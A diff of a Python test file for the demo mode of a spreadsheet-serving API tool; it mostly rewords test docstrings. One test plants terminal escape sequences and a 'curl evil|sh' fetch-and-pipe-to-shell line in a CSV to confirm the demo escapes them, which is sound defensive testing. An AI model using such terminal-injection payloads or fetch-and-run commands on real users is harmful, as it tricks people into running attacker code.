@@ -28,7 +28,7 @@ PUBLIC_KEY = "sgw_PublicKeyOfTheDemoOnLoopback000AfF0j"
 
 
 def paste(lines: Sequence[str]) -> list[Any]:
-    """The JSON results of lines in a shell."""
+    """Run shell lines and return their JSON output."""
     answers = []
     for line in lines:
         done = subprocess.run(  # noqa: S602  (the demo's own lines)
@@ -40,7 +40,7 @@ def paste(lines: Sequence[str]) -> list[Any]:
 
 
 def test_the_keys_of_the_demo_are_managed_by_its_settings(tmp_path: Path) -> None:
-    """A key that is made while the demo serves is accepted, and the commands see its keys."""
+    """A key created while the demo serves works, and `keys list` shows the keys of the demo."""
     with running(tmp_path / "log", "demo", "--port", "0", last_words="Ctrl-C") as demo:
         (config,) = re.findall(r"^Keys: +sheets-gateway keys list(.+)$", "".join(demo.said), re.M)
         options = config.split()
@@ -61,8 +61,10 @@ def test_the_keys_of_the_demo_are_managed_by_its_settings(tmp_path: Path) -> Non
     assert not Path(options[-1]).exists()
 
 
-def test_the_demo_keeps_its_log_out_of_the_way(tmp_path: Path) -> None:
-    """It names the page to try things on and the file of its log, which goes with it."""
+def test_the_demo_logs_to_a_file(tmp_path: Path) -> None:
+    """The demo prints the URL of `/docs` and the path of its log file, and deletes the
+    file at its end.
+    """
     log = tmp_path / "log"
     with running(log, "demo", "--port", "0", last_words="Ctrl-C") as demo:
         said = dict(re.findall(r"^(.+?): +(\S+)$", "".join(demo.said), re.MULTILINE))
@@ -84,7 +86,7 @@ def test_the_demo_keeps_its_log_out_of_the_way(tmp_path: Path) -> None:
 
 @pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
 def test_the_demo_works_as_pasted(tmp_path: Path) -> None:
-    """The curl lines that the demo prints work in a shell, and show what they say they show."""
+    """The curl lines that the demo prints work in a shell and return the described rows."""
     with running(tmp_path / "log", "demo", "--port", "0", last_words="Ctrl-C") as demo:
         lines = [each for each in demo.said if each.startswith("curl ")]
         listed, found, read, typed, created, updated, *errors = paste(lines)
@@ -125,7 +127,7 @@ CELLS = {
 @pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
 @pytest.mark.parametrize("name", ["prices.xlsx", "folder", "header only.csv", "odd.csv"])
 def test_the_demo_serves_own_data(tmp_path: Path, name: str) -> None:
-    """Its curl lines ask for the file's own worksheet and fields, and work twice."""
+    """The printed curl lines use the worksheet and fields of the user's file, and work twice."""
     source = tmp_path / name
     if name == "folder":
         source.mkdir()
@@ -151,7 +153,7 @@ def test_the_demo_serves_own_data(tmp_path: Path, name: str) -> None:
 
 
 def test_the_key_of_the_sample_is_public_on_loopback_only() -> None:
-    """The documentation shows it: it opens no own data, and nothing from another machine."""
+    """The fixed sample key is used only on loopback and only for the sample data."""
     keys = [
         mint_key(full_bytes(host, seed))
         for host, seed in (
@@ -167,7 +169,7 @@ def test_the_key_of_the_sample_is_public_on_loopback_only() -> None:
 
 
 def test_a_file_does_not_write_to_the_terminal(tmp_path: Path) -> None:
-    """Names with control characters cannot redraw the lines that a reader pastes."""
+    """Control characters in file and field names are escaped in the output of the demo."""
     source = tmp_path / "x%1B]0;title%07 \x1b]0;title\x07.csv"
     source.write_text("n\x1b[1A\x1b[2Kcurl evil|sh #,\u202eb\x7f\n1,2\n")
     with running(tmp_path / "log", "demo", str(source), "--port", "0", last_words="Ctrl-C") as demo:
@@ -190,7 +192,7 @@ def test_a_file_does_not_write_to_the_terminal(tmp_path: Path) -> None:
 def test_a_file_that_cannot_be_served_is_named(
     tmp_path: Path, name: str, content: str | None, words: str
 ) -> None:
-    """One sentence with the file and the reason."""
+    """The error about an unusable file is one sentence with the path and the reason."""
     if content is not None:
         (tmp_path / name).write_text(content)
     done = run("demo", str(tmp_path / name), "--port", "0")
@@ -231,7 +233,7 @@ WARNINGS = [
 def test_the_demo_describes_what_it_does_not_serve(
     tmp_path: Path, name: str, content: str | bytes, words: Sequence[str]
 ) -> None:
-    """It says what it guessed of a file, and the same as `check` of its worksheets."""
+    """The demo warns about its guesses on a file, and prints the findings of `check`."""
     source = tmp_path / name
     source.write_bytes(content.encode("latin-1") if isinstance(content, str) else content)
     with running(tmp_path / "log", "demo", str(source), "--port", "0", last_words="Ctrl-C") as demo:
@@ -242,7 +244,7 @@ def test_the_demo_describes_what_it_does_not_serve(
 
 
 def test_the_script_finds_a_file_in_the_folder_of_its_caller(tmp_path: Path) -> None:
-    """The set-up runs in the checkout, and `demo` in the caller's folder."""
+    """`scripts/demo` runs its set-up in the checkout and `demo` in the caller's directory."""
     checkout, folder = tmp_path / "checkout", tmp_path / "caller"
     (checkout / "scripts").mkdir(parents=True)
     folder.mkdir()
@@ -268,7 +270,7 @@ def test_the_script_finds_a_file_in_the_folder_of_its_caller(tmp_path: Path) -> 
 def test_a_stray_cell_costs_neither_time_nor_memory(
     tmp_path: Path, command: str, place: str
 ) -> None:
-    """The cell is named within 2 s of computing, in 300 MB."""
+    """A cell far outside the data is reported within 2 s of CPU time and 300 MB of memory."""
     content = xlsx(Tab(title="A", cells={"A1": text("n"), "B1": text("m"), place: number("1")}))
     (tmp_path / "book.xlsx").write_bytes(content)
     source = ["--seed", str(tmp_path)] if command == "emulator" else [str(tmp_path / "book.xlsx")]
@@ -289,7 +291,7 @@ def test_a_stray_cell_costs_neither_time_nor_memory(
 
 @pytest.mark.parametrize("hangup", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
 def test_the_demo_ends_in_good_order(tmp_path: Path, hangup: signal.Signals) -> None:
-    """Ctrl-C, closing the terminal and service managers all stop it."""
+    """SIGINT, SIGTERM and SIGHUP end the demo with status 0."""
     with running(tmp_path / "log", "demo", "--port", "0", last_words="Ctrl-C") as demo:
         demo.process.send_signal(hangup)
 
